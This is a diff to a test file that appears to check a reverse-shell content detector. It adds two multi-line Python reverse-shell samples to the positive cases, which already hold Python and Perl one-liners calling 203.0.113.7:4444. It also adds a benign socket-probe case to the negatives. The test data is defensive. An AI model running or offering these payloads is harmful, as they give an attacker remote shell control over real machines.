@@ -115,6 +115,14 @@ describe('content: remote shells', () => {
       'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("203.0.113.7",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);import pty;pty.spawn("/bin/sh")',
     ],
     [
+      'python written as a script, over lines',
+      'import socket, subprocess, os\n\nip = "203.0.113.7"\nport = 4444\n\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.connect((ip, port))\n\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nos.dup2(s.fileno(), 2)\n\np = subprocess.call(["/bin/sh", "-i"])\n',
+    ],
+    [
+      'python spawning a shell on a terminal after connecting, over lines',
+      'import sys, socket, pty\ns = socket.socket()\ns.connect((sys.argv[1], int(sys.argv[2])))\nfor fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\npty.spawn("/bin/bash")\n',
+    ],
+    [
       'perl',
       'use Socket;$i="203.0.113.7";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");};',
     ],
@@ -138,6 +146,7 @@ describe('content: remote shells', () => {
       'exec 3<>/dev/null',
       'curl -fsS http://127.0.0.1:8080/health',
       'import socket\ns = socket.create_connection(("db", 5432))\nprint(s.recv(10))',
+      'import socket, subprocess\ns = socket.socket()\ns.connect(("db", 5432))\ns.close()\nsubprocess.run(["pg_isready", "-h", "db"])\n',
       // A syntax highlighter's list of shell commands (prism.js), naming mkfifo and nc.
       'builtin:/\\b(?:kill|mkdir|mkfifo|mkfs|mknod|mv|nano|nc|netstat)(?=$|[)\\s;|&])/',
       // Port checks through bash's /dev/tcp: a compose health check, a provisioning wait.
